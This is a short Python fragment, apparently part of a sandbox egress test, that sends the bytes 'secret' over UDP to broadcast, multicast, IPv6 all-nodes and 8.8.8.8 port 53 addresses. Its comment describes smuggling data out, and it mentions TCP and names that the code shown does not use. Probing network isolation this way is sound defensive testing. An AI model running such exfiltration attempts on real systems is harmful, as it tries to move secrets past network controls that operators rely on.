# Smuggles data out in the names that it asks for, by UDP, TCP and a broadcast.
import socket

for address in (("255.255.255.255", 9), ("224.0.0.1", 9), ("8.8.8.8", 53), ("10.255.255.255", 9)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        attempt(str(address), client.sendto, b"secret", address)
with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as client:
    attempt("all nodes", client.sendto, b"secret", ("ff02::1", 9))
